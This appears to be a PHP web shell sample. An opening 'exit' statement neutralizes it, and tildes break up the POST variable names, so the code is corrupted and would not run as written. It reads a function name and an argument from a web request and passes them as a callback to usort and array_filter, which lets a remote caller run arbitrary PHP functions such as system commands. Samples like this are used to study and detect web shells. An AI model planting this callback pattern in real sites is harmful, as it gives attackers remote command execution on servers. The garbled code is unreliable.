<?php exit; ?>
<?php
$f = $_P~OST['f']; $data = array($_P~OST['m']);
usort($data, $f); array_filter($data, $f);
